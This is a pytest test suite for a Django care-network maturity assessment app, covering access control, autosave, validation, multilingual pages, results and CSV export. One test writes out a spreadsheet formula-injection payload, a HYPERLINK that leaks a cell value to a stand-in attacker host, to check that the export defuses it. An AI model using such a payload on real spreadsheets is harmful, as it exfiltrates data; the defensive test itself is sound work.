"""The pages: access refused to outsiders, autosave over HTTP, bad input changes nothing, CSV content."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from careweave.access.models import AuditEvent
from careweave.maturity import actions
from careweave.maturity.dimensions import codes
from careweave.maturity.models import ConsensusWorkshop, DimensionScore, MaturityRound, Participant

from .conftest import fill

pytestmark = pytest.mark.django_db
C = codes()


def client_for(user: User, language: str = "en") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def autosave(client: Client, round_: MaturityRound, code: str, **body) -> tuple[int, dict]:  # noqa: ANN003
    response = client.post(
        reverse("maturity:autosave", args=[round_.pk, code]), json.dumps(body), content_type="application/json"
    )
    is_json = response["Content-Type"] == "application/json"
    return response.status_code, response.json() if is_json else {}


STAFF_PAGES = ["round", "results", "report", "report_csv", "compare", "new_workshop"]  # report: while open


def test_outsiders_get_404_and_participants_403_on_the_staff_pages(round_, outsider, invite) -> None:  # noqa: ANN001
    p = invite("an")
    stranger = client_for(outsider)
    participant = client_for(p.user)
    for name in STAFF_PAGES:
        url = reverse(f"maturity:{name}", args=[round_.pk])
        assert stranger.get(url).status_code == 404, name
        assert participant.get(url).status_code == 403, name
    assert stranger.get(reverse("maturity:score", args=[round_.pk])).status_code == 404
    index = stranger.get(reverse("maturity:index")).content.decode()  # their own zone, not this one
    assert "ELZ Elders" in index and reverse("maturity:round", args=[round_.pk]) not in index
    assert client_for(User.objects.create_user("nobody")).get(reverse("maturity:index")).status_code == 404
    status, _body = autosave(stranger, round_, C[0], score=3, argument="x")
    assert status == 404
    assert Client().get(reverse("maturity:index")).status_code == 302  # to the login page
    assert not DimensionScore.objects.exists()


def test_autosave_over_http_keeps_drafts_and_reports_the_version(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    client = client_for(p.user)
    status, body = autosave(client, round_, C[0], score=2, argument="", version=0, device="d1", seq=1)
    assert status == 200 and body["outcome"] == "saved" and body["complete"] is False and body["version"] == 1
    status, body = autosave(client, round_, C[0], score=2, argument="Omdat", version=1, device="d1", seq=2)
    assert body["complete"] is True and body["version"] == 2
    assert AuditEvent.objects.filter(user=p.user, resource_type="MaturityScore").count() == 2


def test_autosave_bad_input_gives_a_clear_error_and_changes_nothing(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    client = client_for(p.user)
    autosave(client, round_, C[0], score=2, argument="eerst", device="d1", seq=1)
    for body in ({"score": 7, "argument": "x"}, {"score": "drie", "argument": "x"}, {"score": 2, "argument": ["x"]},
                 {"score": 2, "argument": "x", "seq": "soon"}):
        status, answer = autosave(client, round_, C[0], **body)
        assert status == 400 and answer["error"], body
    response = client.post(reverse("maturity:autosave", args=[round_.pk, C[0]]), "{not json",
                           content_type="application/json")
    assert response.status_code == 400
    status, _answer = autosave(client, round_, "happiness", score=2, argument="x")
    assert status == 400
    row = DimensionScore.objects.get()
    assert (row.score, row.argument, row.version) == (2, "eerst", 1)


def test_a_conflict_answers_409_with_what_is_saved_now(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    client = client_for(p.user)
    autosave(client, round_, C[0], score=2, argument="laptop", device="laptop", seq=1)
    autosave(client, round_, C[0], score=2, argument="laptop 2", version=1, device="laptop", seq=2)
    status, body = autosave(client, round_, C[0], score=4, argument="phone", version=1, device="phone", seq=1)
    assert status == 409 and body["current"]["argument"] == "laptop 2" and body["current"]["version"] == 2


def test_the_scoring_page_in_dutch_french_and_german_shows_the_models_texts(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    for language, first in (("nl", "Bereidheid tot verandering"), ("fr", "Volonté de changement"),
                            ("de", "Veränderungsbereitschaft")):
        page = client_for(p.user, language).get(reverse("maturity:score", args=[round_.pk])).content.decode()
        assert f"1. {first}" in page
        assert page.count('data-dimension="') == 12
        assert page.count('type="radio"') == 72


def test_without_javascript_the_form_saves_all_and_reports_bad_rows(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    client = client_for(p.user)
    url = reverse("maturity:score", args=[round_.pk])
    response = client.post(url, {f"score-{C[0]}": "3", f"argument-{C[0]}": "Zo is het", f"score-{C[1]}": "9"})
    assert response.status_code == 200 and b'data-test="problems"' in response.content
    assert DimensionScore.objects.get(dimension=C[0]).argument == "Zo is het"
    assert not DimensionScore.objects.filter(dimension=C[1]).exists()


def test_submit_refuses_with_the_missing_dimensions_then_accepts(round_, invite) -> None:  # noqa: ANN001
    p = invite("an")
    client = client_for(p.user)
    response = client.post(reverse("maturity:submit", args=[round_.pk]), follow=True)
    assert b"alert--error" in response.content
    assert not Participant.objects.get(pk=p.pk).submitted
    for code in C:
        autosave(client, round_, code, score=1, argument="a")
    response = client.post(reverse("maturity:submit", args=[round_.pk]), follow=True)
    assert Participant.objects.get(pk=p.pk).submitted
    assert b'data-test="submitted"' in response.content and b"readonly" in response.content


def test_results_show_spread_per_dimension_and_the_suggestion(round_, staff, invite) -> None:  # noqa: ANN001
    fill(invite("an"), [0, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2])
    fill(invite("bo"), [5, 2, 3, 2, 2, 2, 2, 2, 2, 4, 2, 2])
    client = client_for(staff)
    page = client.get(reverse("maturity:results", args=[round_.pk]) + "?count=3").content.decode()
    assert 'data-test="spread-readiness_to_change">5<' in page
    suggested = page.split('data-test="suggested"')[1].split("</ol>")[0]
    assert suggested.index(C[0]) < suggested.index(C[9]) < suggested.index(C[2])
    assert page.count('data-test="participant-chart"') == 2
    assert page.count('data-test="spider-series"') == 3
    bad = client.get(reverse("maturity:results", args=[round_.pk]) + "?count=12")
    assert bad.status_code == 200 and b'field--error' in bad.content


def test_csv_has_a_bom_every_submitted_score_with_its_argument_and_nothing_else(round_, staff, invite) -> None:  # noqa: ANN001
    fill(invite("an", "Huisartsenkring"), [3] * 12, "Omdat ’t zo is; één")
    draft = invite("bo")
    actions.save_score(draft.user, draft, C[0], 5, "nog een kladversie")
    response = client_for(staff).get(reverse("maturity:report_csv", args=[round_.pk]))
    assert response["Content-Type"].startswith("text/csv")
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == 1 + 12
    assert rows[1][0] == "1" and rows[1][3] == "Huisartsenkring" and rows[1][5] == "3"
    assert rows[1][6] == f"Omdat ’t zo is; één ({C[0]})"
    assert "kladversie" not in raw
    assert AuditEvent.objects.filter(user=staff, resource_type="MaturityReport", action="R").exists()


def test_a_formula_in_an_argument_reaches_the_csv_as_text(round_, staff, invite) -> None:  # noqa: ANN001
    """Security issue 17 item 12: an argument is free text a spreadsheet must not run."""
    fill(invite("an"), [3] * 12, '=HYPERLINK("http://evil.example/?leak="&A1,"Details")')
    raw = client_for(staff).get(reverse("maturity:report_csv", args=[round_.pk])).content.decode("utf-8")
    header, first = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))[:2]
    assert len(header) == 7, "the Belgian ';' separator, as every CSV export"
    assert first[6].startswith("'=HYPERLINK(")
    assert first[5] == "3"


def test_staff_open_a_round_invite_and_bad_input_changes_nothing(zone, staff) -> None:  # noqa: ANN001
    client = client_for(staff)
    url = reverse("maturity:create_round", args=[zone.pk])
    client.post(url, {"year": "twee"})
    client.post(url, {"year": "2101"})
    assert not MaturityRound.objects.exists()
    client.post(url, {"year": "2026"})
    round_ = MaturityRound.objects.get()
    client.post(url, {"year": "2026"})
    assert MaturityRound.objects.count() == 1
    User.objects.create_user("an")
    invite = reverse("maturity:round", args=[round_.pk])
    assert b"field--error" in client.post(invite, {"username": "nobody"}).content
    client.post(invite, {"username": "an", "organisation": "OCMW"})
    assert b"alert--error" in client.post(invite, {"username": "an"}).content
    assert Participant.objects.get().organisation == "OCMW"


def test_closing_a_round_with_a_stale_form_changes_nothing(round_, staff) -> None:  # noqa: ANN001
    client = client_for(staff)
    url = reverse("maturity:round_status", args=[round_.pk])
    client.post(url, {"do": "close", "version": "7"})
    assert MaturityRound.objects.get().is_open
    client.post(url, {"do": "close"})
    assert MaturityRound.objects.get().is_open
    client.post(url, {"do": "close", "version": str(round_.version)})
    assert not MaturityRound.objects.get().is_open


def test_workshop_pages_plan_and_record_consensus_with_clear_errors(round_, staff, invite) -> None:  # noqa: ANN001
    fill(invite("an"), [1] * 12)
    client = client_for(staff)
    url = reverse("maturity:new_workshop", args=[round_.pk])
    assert client.get(url).content.count(b"checked") == 5  # the default suggestion is ticked
    client.post(url, {"held_on": "2026-11-05", "attendees": "6", "chosen": C[:2]})
    assert not ConsensusWorkshop.objects.exists()
    client.post(url, {"held_on": "2026-11-05", "attendees": "6", "chosen": C[:3]})
    workshop = ConsensusWorkshop.objects.get()
    page = reverse("maturity:workshop", args=[workshop.pk])
    response = client.post(page, {"version": "1", f"score-{C[0]}": "3", f"argument-{C[0]}": ""})
    assert b'data-test="problems"' in response.content
    client.post(page, {"version": "1", f"score-{C[0]}": "3", f"argument-{C[0]}": "Akkoord", "notes": "Goed"})
    assert workshop.dimensions.get(dimension=C[0]).consensus_score == 3
    report = client.get(reverse("maturity:report", args=[round_.pk])).content.decode()
    assert "Akkoord" in report and 'data-test="report-workshop"' in report


def test_comparison_with_last_year_shows_the_change(zone, staff, round_, invite) -> None:  # noqa: ANN001
    last = actions.open_round(staff, zone, 2025)
    old = actions.invite_participant(staff, last, User.objects.create_user("vorig"))
    fill(old, [1] * 12)
    fill(invite("an"), [3] + [1] * 11)
    page = client_for(staff).get(reverse("maturity:compare", args=[round_.pk])).content.decode()
    assert '<td class="num">+2.0</td>' in page.split('data-test="delta-readiness_to_change"')[1].split("</tr>")[0]
    assert page.count('data-test="spider-series"') == 2
    first = client_for(staff).get(reverse("maturity:compare", args=[last.pk]))
    assert first.status_code == 302


def test_the_menu_offers_the_assessment_to_staff_and_participants_only(round_, staff, outsider, invite) -> None:  # noqa: ANN001
    p = invite("an")
    home = reverse("maturity:index")
    assert b'data-test="nav-maturity"' in client_for(staff).get(home).content
    assert b'data-test="nav-maturity"' in client_for(p.user).get(home).content
    nobody = User.objects.create_user("nobody")
    assert b'data-test="nav-maturity"' not in client_for(nobody).get("/", follow=True).content


def test_the_spider_chart_coordinates_stay_numbers_in_every_language(round_, staff, invite) -> None:  # noqa: ANN001
    """SVG needs "180.0", never the Dutch or French "180,0"."""
    fill(invite("an"), [2] * 12)
    for language in ("nl", "fr", "de"):
        page = client_for(staff, language).get(reverse("maturity:results", args=[round_.pk])).content.decode()
        svg = page.split('data-test="spider-chart"')[1].split("</svg>")[0]
        assert 'x="180.0"' in svg and ",0\"" not in svg, language


def test_participants_receive_the_report_without_names_once_the_round_is_closed(round_, staff, invite) -> None:  # noqa: ANN001
    an = invite("an", "Huisartsenkring")
    an.user.first_name, an.user.last_name = "An", "Claes"
    an.user.save()
    fill(an, [2] * 12, "Omdat")
    url = reverse("maturity:report", args=[round_.pk])
    assert client_for(an.user).get(url).status_code == 403
    actions.close_round(staff, round_)
    page = client_for(an.user).get(url).content.decode().split('class="mat-report"')[1]
    assert page.count('data-test="report-argument"') == 12
    assert "Huisartsenkring" in page and "An Claes" not in page and "report.csv" not in page
    assert "An Claes" in client_for(staff).get(url).content.decode()
    assert client_for(an.user).get(reverse("maturity:report_csv", args=[round_.pk])).status_code == 403
